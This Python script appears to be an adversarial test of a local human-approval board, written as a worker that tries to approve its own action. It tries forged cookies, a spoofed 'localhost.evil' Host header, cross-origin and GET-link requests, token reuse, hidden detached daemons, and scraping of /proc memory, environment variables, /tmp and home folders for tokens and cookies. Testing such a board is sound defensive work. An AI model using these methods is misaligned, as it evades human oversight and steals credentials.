"""What a worker does that wants to approve itself on the board. It knows more than it could: see `stolen.json`.

It prints what came of each way: the status of the answer, or what it has read.
"""

import ctypes
import json
import os
import re
import socket
import sys
import time
from pathlib import Path

TOKEN = re.compile(rb"token=([a-z2-7]{4}(?:-[a-z2-7]{4}){5})")
COOKIE = re.compile(rb"noface=[\w-]{43}")


def request(port, method, path, fields=None, *, family=socket.AF_INET, leave=False, **headers):
    body = "&".join(f"{name}={value}" for name, value in (fields or {}).items())
    given = {
        "Host": f"127.0.0.1:{port}",
        "Content-Type": "application/x-www-form-urlencoded",
        "Content-Length": str(len(body)),
        "Connection": "close",
        **{name.replace("_", "-"): value for name, value in headers.items()},
    }
    lines = [f"{method} {path} HTTP/1.1", *(f"{name}: {value}" for name, value in given.items()), "", body]
    with socket.socket(family) as connection:
        connection.settimeout(20)
        connection.connect(("127.0.0.1" if family == socket.AF_INET else "::ffff:127.0.0.1", port))
        connection.sendall("\r\n".join(lines).encode())
        if leave:
            return 0
        answer = b""
        while data := connection.recv(65536):
            answer += data
    return int(answer.split()[1])


def in_child(act, *, hidden=False):
    """Act in a process in a session of its own, whose parent has ended."""
    read, write = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            if hidden:
                ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)
            os.write(write, str(act()).encode())
        os._exit(0)
    os.wait()
    os.close(write)
    return int(os.read(read, 100) or -1)


def readable(pattern):
    """Everything that looks like a secret of the board in what this process can read of others."""
    seen = set()
    for process in Path("/proc").glob("[0-9]*"):
        if process.name == str(os.getpid()):
            continue
        for name in ("cmdline", "environ"):
            seen |= set(pattern.findall(read(process / name)))
        if b"noface\0board" not in read(process / "cmdline"):
            continue
        try:
            maps = (process / "maps").read_text().splitlines()
            with (process / "mem").open("rb", 0) as memory:
                for line in maps:
                    if "rw" in line:
                        start, end = (int(part, 16) for part in line.split()[0].split("-"))
                        memory.seek(start)
                        seen |= set(pattern.findall(memory.read(min(end - start, 1 << 26))))
        except (OSError, ValueError, OverflowError):
            continue
    for each in Path("/tmp").glob("*"):
        seen |= set(pattern.findall(read(each)))
    for top in (Path(stolen["state"]), Path(os.environ.get("HOME", "/nothing"))):
        for folder, _, names in os.walk(top):
            for name in names[:200]:
                if name not in ("stolen.json", "attack.py"):
                    seen |= set(pattern.findall(read(Path(folder, name))))
    return sorted(each.decode() for each in seen)


def read(path):
    try:
        return path.read_bytes() if path.is_file() and path.stat().st_size < 1 << 22 else b""
    except OSError:
        return b""


Path("ready.txt").write_text("ready")
while not Path("stolen.json").exists():
    time.sleep(0.05)
time.sleep(0.1)
stolen = json.loads(Path("stolen.json").read_text())
port, folder, cookie, fields = stolen["port"], stolen["folder"], stolen["cookie"], stolen["fields"]
own = {"Origin": f"http://127.0.0.1:{port}", "Sec_Fetch_Site": "same-origin"}
decide = f"{folder}decide"


def with_all(**more):
    return request(port, "POST", decide, fields, Cookie=cookie, **own, **more)


def tried(name, act):
    try:
        came[name] = act()
    except OSError as error:
        came[name] = f"{type(error).__name__}: {error}"


came = {}
tried("no cookie", lambda: request(port, "POST", decide, fields, **own))
tried("a cookie of its own", lambda: request(port, "POST", decide, fields, Cookie="noface=" + "A" * 43, **own))
tried("a folder of its own", lambda: request(port, "POST", "/" + "A" * 43 + "/decide", fields, Cookie=cookie, **own))
tried("another host", lambda: request(port, "POST", decide, fields, Cookie=cookie, **own, Host="localhost.evil:1"))
tried("another page", lambda: request(port, "POST", decide, fields, Cookie=cookie, Origin="http://127.0.0.1:1"))
tried(
    "a link", lambda: request(port, "GET", f"{decide}?{'&'.join(f'{k}={v}' for k, v in fields.items())}", Cookie=cookie)
)
tried("the token that the person used", lambda: request(port, "GET", f"/enter?token={stolen['used']}"))
tried("a token that nobody has used", lambda: request(port, "GET", f"/enter?token={stolen['unused']}"))
tried("the person's cookie", with_all)
tried("the person's cookie, by another family of addresses", lambda: with_all(family=socket.AF_INET6))
tried("the person's cookie, from a daemon", lambda: in_child(with_all))
tried("the person's cookie, from a daemon that hides", lambda: in_child(with_all, hidden=True))
tried("the person's cookie, gone before it is looked at", lambda: max(with_all(leave=True) for _ in range(20)))
tried("pause the run", lambda: request(port, "POST", f"{folder}run", {"do": "pause"}, Cookie=cookie, **own))
tried("read tokens", lambda: readable(TOKEN))
tried("read cookies", lambda: readable(COOKIE))
print(json.dumps(came))
sys.stdout.flush()
time.sleep(1)
